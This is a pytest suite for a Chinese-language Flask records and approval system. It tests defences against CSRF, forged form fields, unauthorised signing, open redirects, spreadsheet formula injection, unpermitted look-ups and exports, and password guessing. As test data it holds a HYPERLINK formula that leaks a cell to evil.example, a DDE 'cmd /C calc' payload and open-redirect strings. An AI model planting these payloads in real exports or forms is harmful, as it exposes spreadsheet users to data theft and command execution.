"""Attacks through HTTP, each as a real user would try it: requests without a CSRF token, status and
signature fields slipped into a form, a clerk signing, open redirects, formulas in exports, look-ups
and exports of registers one may not see, and guessing passwords.

(Session expiry and cookies copied before logout: ``test_auth.py``.)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any
from urllib.parse import quote, urlsplit

import openpyxl
import pytest
import sqlalchemy as sa
from flask import Flask

from models.base import Base, Record, declared_models
from models.front_desk import CallRecord
from models.reference import ACTIONS, Department, Permission, User, user_roles
from tests.conftest import PASSWORD, Browser
from tests.factories import existing_row, form_data, model_named
from tests.test_auth import WRONG_LOGIN, alerts, signed_in
from tests.test_chains import approval, create, submit
from tests.test_registers_walk import catalogue, user_with

EVIL = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点此查看\")"


def fingerprint(app: Flask) -> dict[str, list[str]]:
    """Every row of every table, as another connection sees them."""
    with app.extensions["engine"].connect() as conn:
        return {t.name: sorted(repr(tuple(r)) for r in conn.execute(sa.select(t)))
                for t in Base.metadata.sorted_tables}


def user_id(session: Any, username: str) -> int:
    found = session.scalar(sa.select(User.id).where(User.username == username))
    assert found is not None
    return found


# -- CSRF on every POST endpoint ---------------------------------------------------------------------


def grant_everything(session: Any, username: str) -> None:
    """Every action on every register to the user's roles: a refusal can only come from CSRF."""
    user = session.scalar(sa.select(User).where(User.username == username))
    have = {(p.role_id, p.resource, p.action) for p in session.scalars(sa.select(Permission))}
    for role in user.roles:
        for model in declared_models():
            for action in ACTIONS:
                if (role.id, model.__name__, action) not in have:
                    session.add(Permission(role_id=role.id, resource=model.__name__, action=action))
    session.commit()


def post_payload(app: Flask, session: Any, endpoint: str,
                 entries: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """A query string and form that the endpoint would act on, were the token there."""
    blueprint, name = endpoint.rsplit(".", 1) if "." in endpoint else ("", endpoint)
    admin_view = next((v for v in app.extensions["kefu_admin"]._views if v.endpoint == blueprint), None)
    model = getattr(admin_view, "model", None)
    if model is None:  # login, logout, the grid, the inbox, the board
        return "", {"username": "it", "password": PASSWORD, "date": "2026-12-03", "approval": ["1"],
                    "decision": "同意", "remarks": "攻击"}
    row = existing_row(session, model)
    entry = entries.get(model.__name__)
    data = form_data(session, entry) if entry and name in ("create_view", "edit_view") else {}
    data.update({"id": str(row), "rowid": [str(row)], "action": "delete", "url": "/admin/",
                 "list_form_pk": str(row), "decision": "同意", "opinion": "攻击"})
    return f"?id={row}", data


def test_every_post_endpoint_refuses_a_request_without_csrf_token(app: Flask, session: Any,
                                                                 it_admin: Browser) -> None:
    grant_everything(session, "it")
    endpoints = sorted({r.endpoint for r in app.url_map.iter_rules() if "POST" in (r.methods or ())})
    entries = catalogue(app, "--all")
    payloads = {e: post_payload(app, session, e, entries) for e in endpoints}
    session.commit()  # SQLite: the test's own open transaction would hold the write lock
    before = fingerprint(app)
    refused = {}
    for endpoint in endpoints:
        rule = next(r for r in app.url_map.iter_rules(endpoint))
        query, data = payloads[endpoint]
        response = it_admin.post(rule.rule + query, data, csrf=False)
        refused[endpoint] = response.status_code == 400 and "页面已过期" in response.get_data(as_text=True)
    assert [e for e, ok in refused.items() if not ok] == []
    kinds = {e.rsplit(".", 1)[-1] for e in endpoints}
    assert {"login", "logout", "create_view", "edit_view", "delete_view", "action_view", "ajax_update",
            "approval_submit", "approval_decide", "approval_withdraw", "signoff"} <= kinds
    assert {"permission_grid.index", "inbox.index"} <= set(endpoints)
    assert fingerprint(app) == before
    assert signed_in(it_admin)  # the logout without a token did not sign out either


def post_forms(page: str) -> list[str]:
    return re.findall(r"<form\b[^>]*method=\"post\"[^>]*>.*?</form>", page, flags=re.S | re.I)


@pytest.mark.parametrize(("username", "url"), [
    ("head", "/admin/"),
    ("head", "/admin/call_records/"),
    ("head", "/admin/call_records/new/"),
    ("head", "/admin/purchase_orders/new/"),
    ("head", "/admin/board/"),
    ("it", "/admin/permission-grid/?group=A"),
    ("it", "/admin/users/"),
])
def test_every_post_form_carries_the_csrf_token(as_user: Any, username: str, url: str) -> None:
    response = as_user(username).get(url)
    assert response.status_code == 200
    forms = post_forms(response.get_data(as_text=True))
    assert forms, "the page has a form to post"
    assert [f[:120] for f in forms if 'name="csrf_token"' not in f] == []


def test_approval_and_inbox_forms_carry_the_csrf_token(app: Flask, session: Any, as_user: Any) -> None:
    record_id = create(app, session, as_user("employee"), "PurchaseOrder")
    assert submit(app, as_user("employee"), "PurchaseOrder", record_id).status_code == 302
    details = as_user("head").get(f"/admin/purchase_orders/details/?id={record_id}").get_data(as_text=True)
    inbox = as_user("head").get("/admin/inbox/").get_data(as_text=True)
    forms = post_forms(details) + post_forms(inbox)
    assert any("approval/decide" in f for f in forms) and any('name="approval"' in f for f in forms)
    assert all('name="csrf_token"' in f for f in forms)


# -- status and signature fields slipped into a form -------------------------------------------------

FORGED = {"number": "XST-HD-KF-002-20200101-999", "recorded_at": "2020-01-01 08:00:00",
          "approval_status": "已批准", "status": "已批准", "version": "99"}


def forged_fields(session: Any) -> dict[str, str]:
    other = session.scalar(sa.select(Department.id).where(Department.name == "财务部"))
    gm = user_id(session, "gm")
    return {**FORGED, "recorded_by": str(gm), "recorded_by_id": str(gm), "department": str(other),
            "department_id": str(other)}


def newest(session: Any, model: type[Record]) -> Any:
    session.expire_all()
    return session.scalars(sa.select(model).order_by(model.id.desc()).limit(1)).one()


def test_clerk_cannot_set_number_author_department_or_time_on_create(app: Flask, session: Any,
                                                                    clerk: Browser) -> None:
    entry = catalogue(app)["CallRecord"]
    response = clerk.post(entry["url"] + "new/", {**form_data(session, entry), **forged_fields(session)})
    assert response.status_code == 302
    record = newest(session, CallRecord)
    clerk_user = session.get(User, user_id(session, "clerk"))
    assert record.number != FORGED["number"] and record.number.startswith("XST-HD-KF-002-")
    assert record.recorded_by_id == clerk_user.id
    assert record.department_id == clerk_user.department_id
    assert record.recorded_at.year != 2020


def test_clerk_cannot_change_number_author_or_department_on_edit(app: Flask, session: Any,
                                                                 clerk: Browser) -> None:
    entry = catalogue(app)["CallRecord"]
    assert clerk.post(entry["url"] + "new/", form_data(session, entry)).status_code == 302
    saved = newest(session, CallRecord)
    before = (saved.number, saved.recorded_by_id, saved.department_id, saved.recorded_at)
    response = clerk.post(entry["url"] + f"edit/?id={saved.id}",
                          {**form_data(session, entry), **forged_fields(session)})
    assert response.status_code == 302
    after = newest(session, CallRecord)
    assert (after.number, after.recorded_by_id, after.department_id, after.recorded_at) == before


def test_approval_status_in_a_create_form_starts_no_approval(app: Flask, session: Any, as_user: Any) -> None:
    record_id = create(app, session, as_user("employee"), "PurchaseOrder", **FORGED)
    assert approval(session, "PurchaseOrder", record_id) is None
    page = as_user("employee").get(f"/admin/purchase_orders/details/?id={record_id}").get_data(as_text=True)
    assert "提交审批" in page  # still a draft, to be submitted


# -- a clerk signing ----------------------------------------------------------------------------------


@pytest.fixture
def submitted_order(app: Flask, session: Any, as_user: Any) -> int:
    record_id = create(app, session, as_user("employee"), "PurchaseOrder")
    assert submit(app, as_user("employee"), "PurchaseOrder", record_id).status_code == 302
    return record_id


@pytest.mark.parametrize("decision", ["同意", "退回"])
def test_clerk_cannot_sign_a_step_that_is_not_theirs(app: Flask, session: Any, clerk: Browser,
                                                     submitted_order: int, decision: str) -> None:
    before = approval(session, "PurchaseOrder", submitted_order)
    assert before is not None
    state = (before.status, before.step_index, before.version)
    response = clerk.post(f"/admin/purchase_orders/approval/decide/?id={submitted_order}",
                          {"decision": decision, "opinion": "我来签", "version": str(before.version)})
    assert response.status_code == 403
    after = approval(session, "PurchaseOrder", submitted_order)
    assert (after.status, after.step_index, after.version) == state
    assert after.round_signatures() == []


def test_clerk_cannot_sign_through_the_inbox(app: Flask, session: Any, clerk: Browser,
                                             submitted_order: int) -> None:
    waiting = approval(session, "PurchaseOrder", submitted_order)
    assert waiting is not None
    response = clerk.post("/admin/inbox/", {"approval": str(waiting.id), "decision": "同意"})
    assert response.status_code == 302
    after = approval(session, "PurchaseOrder", submitted_order)
    assert after.step_index == 0 and after.round_signatures() == []


def test_clerk_cannot_withdraw_someone_elses_application(app: Flask, session: Any, clerk: Browser,
                                                         submitted_order: int) -> None:
    clerk.post(f"/admin/purchase_orders/approval/withdraw/?id={submitted_order}")
    assert approval(session, "PurchaseOrder", submitted_order).status == "审批中"


def test_clerk_cannot_sign_off_the_day_review(session: Any, clerk: Browser) -> None:
    from models.deadlines import DayReview

    response = clerk.post("/admin/board/signoff", {"date": "2026-12-03"})
    assert response.status_code == 403
    assert session.scalar(sa.select(sa.func.count(DayReview.id))) == 0


def test_clerk_cannot_save_the_permission_grid(session: Any, clerk: Browser) -> None:
    before = session.scalar(sa.select(sa.func.count(Permission.id)))
    assert clerk.post("/admin/permission-grid/", {}).status_code == 403
    session.expire_all()
    assert session.scalar(sa.select(sa.func.count(Permission.id))) == before


# -- open redirects ----------------------------------------------------------------------------------

OUTSIDE = ["https://evil.example/", "//evil.example/", "/\\evil.example", "\\\\evil.example",
           "javascript:alert(1)", "https:evil.example", " //evil.example"]


def stays_inside(response: Any) -> bool:
    location = response.headers.get("Location", "")
    parts = urlsplit(location)
    return response.status_code == 302 and parts.netloc in ("", "localhost") and "evil" not in location


@pytest.mark.parametrize("target", OUTSIDE)
def test_return_url_after_create_stays_inside_the_site(app: Flask, session: Any, head: Browser,
                                                       target: str) -> None:
    entry = catalogue(app)["CallRecord"]
    response = head.post(entry["url"] + "new/?url=" + quote(target, safe=""), form_data(session, entry))
    assert stays_inside(response), response.headers.get("Location")


@pytest.mark.parametrize("target", OUTSIDE)
def test_return_url_after_edit_and_delete_stays_inside_the_site(app: Flask, session: Any, head: Browser,
                                                                target: str) -> None:
    entry = catalogue(app)["CallRecord"]
    row = existing_row(session, CallRecord)
    edited = head.post(entry["url"] + f"edit/?id={row}&url=" + quote(target, safe=""),
                       form_data(session, entry))
    assert stays_inside(edited), edited.headers.get("Location")
    deleted = head.post(entry["url"] + "delete/", {"id": str(row), "url": target})
    assert stays_inside(deleted), deleted.headers.get("Location")


def test_cancel_link_on_a_form_points_inside_the_site(head: Browser) -> None:
    page = head.get("/admin/call_records/new/?url=" + quote("https://evil.example/", safe="")).get_data(
        as_text=True)
    assert "evil.example" not in page


# -- formulas in exports -----------------------------------------------------------------------------


def export_cells(browser: Browser, url: str, kind: str) -> list[Any]:
    response = browser.get(f"{url}export/{kind}/")
    assert response.status_code == 200
    if kind == "csv":
        return [c for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    return [c for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exported_text_starting_like_a_formula_stays_text(app: Flask, session: Any, head: Browser,
                                                          kind: str) -> None:
    entry = catalogue(app)["CallRecord"]
    form = {**form_data(session, entry), "caller": EVIL[:50], "content": "@SUM(1+1)*cmd|' /C calc'!A0",
            "result": "\t=1+1", "remarks": "-2+3"}
    assert head.post(entry["url"] + "new/", form).status_code == 302
    cells = export_cells(head, entry["url"], kind)
    values = [c.value if kind == "xlsx" else c for c in cells]
    for typed in (EVIL[:50], "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "-2+3"):
        assert "'" + typed in values, typed
    if kind == "xlsx":
        assert [c.coordinate for c in cells if c.data_type == "f"] == []


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exported_line_items_starting_like_a_formula_stay_text(app: Flask, session: Any, as_user: Any,
                                                               kind: str) -> None:
    user = as_user(user_with(session, "PurchaseOrder", {"create", "export"}))
    entry = catalogue(app)["PurchaseOrder"]
    form = {**form_data(session, entry), "lines-0-item": EVIL[:50]}
    assert user.post(entry["url"] + "new/", form).status_code == 302
    values = [c.value if kind == "xlsx" else c for c in export_cells(user, entry["url"], kind)]
    assert any(isinstance(v, str) and v.startswith("'" + EVIL[:50]) for v in values)
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


def test_report_xlsx_keeps_a_formula_as_text(app: Flask, session: Any, clerk: Browser) -> None:
    entry = catalogue(app)["TeaRoomIncome"]
    form = {**form_data(session, entry), "sold_on": "2024-02-10", "item": EVIL[:100]}
    assert clerk.post(entry["url"] + "new/", form).status_code == 302
    response = clerk.get("/admin/reports/income/xlsx?period=2024-02")
    assert response.status_code == 200
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows() for c in row]
    assert any(isinstance(c.value, str) and c.value.startswith("'" + EVIL[:40]) for c in cells)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


# -- look-ups and exports of registers one may not see ------------------------------------------------


def hidden_link(app: Flask, session: Any, username: str) -> tuple[str, str, type[Base]]:
    """A register with a picker whose target ``username`` may not view (not a public look-up)."""
    viewable = set(session.scalars(
        sa.select(Permission.resource).join(user_roles, user_roles.c.role_id == Permission.role_id)
        .where(user_roles.c.user_id == user_id(session, username), Permission.action == "view")))
    for view in app.extensions["kefu_admin"]._views:
        for name, loader in getattr(view, "_form_ajax_refs", {}).items():
            target = loader.model
            if target.__name__ not in viewable and not target.__register__.public_lookup:
                return view.endpoint, name, target
    raise AssertionError("every picker's target is viewable")


def grant(session: Any, username: str, resource: str, action: str) -> None:
    user = session.scalar(sa.select(User).where(User.username == username))
    role_ids = [r.id for r in user.roles]
    if not session.scalar(sa.select(Permission.id).where(Permission.role_id.in_(role_ids),
                                                         Permission.resource == resource,
                                                         Permission.action == action)):
        session.add(Permission(role_id=role_ids[0], resource=resource, action=action))
        session.commit()


def test_clerk_cannot_look_up_rows_of_a_register_they_may_not_view(app: Flask, session: Any,
                                                                   clerk: Browser) -> None:
    endpoint, field, target = hidden_link(app, session, "clerk")
    existing_row(session, target)
    register = next(v.model.__name__ for v in app.extensions["kefu_admin"]._views if v.endpoint == endpoint)
    grant(session, "clerk", register, "create")  # the clerk may fill in the form with the picker
    response = clerk.get(f"/admin/{endpoint}/ajax/lookup/?name={field}&query=")
    assert response.status_code == 403


def test_look_up_needs_create_or_edit_on_the_register(session: Any, clerk: Browser) -> None:
    # 采购单 is clerk-editable; 出入库单 (仓库) is not: its pickers are not the clerk's business.
    assert clerk.get("/admin/stock_slips/").status_code == 403
    response = clerk.get("/admin/stock_slips/ajax/lookup/?name=stock_item&query=")
    assert response.status_code == 403


def test_look_up_of_a_viewable_register_answers(session: Any, clerk: Browser) -> None:
    """The control for the two tests above."""
    existing_row(session, model_named("Room"))
    response = clerk.get("/admin/call_records/ajax/lookup/?name=room&query=")
    assert response.status_code == 200
    assert response.get_json()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_needs_the_export_permission(clerk: Browser, kind: str) -> None:
    assert clerk.get("/admin/purchase_orders/").status_code == 200  # viewable, not exportable
    assert clerk.get(f"/admin/purchase_orders/export/{kind}/").status_code == 403
    assert clerk.get(f"/admin/stock_slips/export/{kind}/").status_code == 403  # not even viewable


# -- guessing passwords ------------------------------------------------------------------------------


def from_address(app: Any, address: str) -> Browser:
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return Browser(client)


def test_five_wrong_passwords_lock_the_account_even_for_the_right_one(app: Any) -> None:
    attacker = from_address(app, "127.0.0.2")
    for _ in range(5):
        assert WRONG_LOGIN in attacker.login("clerk", "guess-1234").get_data(as_text=True)
    response = attacker.login("clerk")
    assert response.status_code == 429
    page = response.get_data(as_text=True)
    assert "已暂时锁定" in page and re.search(r"请于 \d\d:\d\d 后再试", page)
    assert not signed_in(attacker)


def test_a_locked_account_is_locked_from_every_address(app: Any) -> None:
    attacker = from_address(app, "127.0.0.2")
    for _ in range(5):
        attacker.login("clerk", "guess-1234")
    response = from_address(app, "127.0.0.3").login("clerk")
    assert response.status_code == 429
    assert "已暂时锁定" in response.get_data(as_text=True)


def test_another_account_from_another_address_still_signs_in(app: Any) -> None:
    attacker = from_address(app, "127.0.0.2")
    for _ in range(5):
        attacker.login("clerk", "guess-1234")
    head = from_address(app, "127.0.0.3")
    assert head.login("head").status_code == 302
    assert signed_in(head)


def test_the_lock_ends_after_15_minutes(app: Any, session: Any) -> None:
    from models.security import LoginAttempt

    attacker = from_address(app, "127.0.0.2")
    for _ in range(5):
        attacker.login("clerk", "guess-1234")
    assert attacker.login("clerk").status_code == 429
    for attempt in session.scalars(sa.select(LoginAttempt)):  # a quarter of an hour and a minute later
        attempt.attempted_at -= dt.timedelta(minutes=16)
    session.commit()
    assert attacker.login("clerk").status_code == 302


def test_a_successful_login_resets_the_account_count(app: Any) -> None:
    user = from_address(app, "127.0.0.2")
    for _ in range(4):
        user.login("clerk", "typo-1234")
    assert user.login("clerk").status_code == 302
    assert user.post("/logout").status_code == 302
    for _ in range(4):
        user.login("clerk", "typo-1234")
    assert user.login("clerk").status_code == 302


def test_twenty_failures_from_one_address_block_it_for_every_account(app: Any) -> None:
    attacker = from_address(app, "127.0.0.2")
    for i in range(20):  # four names, five tries each: each name alone is not locked yet at the 4th
        attacker.login(f"name{i % 4}", "guess-1234")
    response = attacker.login("head")
    assert response.status_code == 429
    assert "这台电脑" in response.get_data(as_text=True)
    assert from_address(app, "127.0.0.3").login("head").status_code == 302


def test_unknown_and_known_names_are_locked_alike(app: Any) -> None:
    known, unknown = from_address(app, "127.0.0.2"), from_address(app, "127.0.0.3")
    for _ in range(5):
        known.login("clerk", "guess-1234")
        unknown.login("nobody", "guess-1234")
    locked = [alerts(b.login(name)) for b, name in ((known, "clerk"), (unknown, "nobody"))]
    assert locked[0] == locked[1] and "已暂时锁定" in locked[0][0]


def test_attempts_are_kept_in_the_database(app: Any, session: Any) -> None:
    from models.security import LoginAttempt

    from_address(app, "127.0.0.2").login("clerk", "guess-1234")
    from_address(app, "127.0.0.2").login("clerk")
    session.expire_all()
    rows = session.execute(sa.select(LoginAttempt.username, LoginAttempt.remote_addr, LoginAttempt.outcome)
                           .order_by(LoginAttempt.id)).all()
    assert [tuple(r) for r in rows] == [("clerk", "127.0.0.2", "失败"), ("clerk", "127.0.0.2", "成功")]
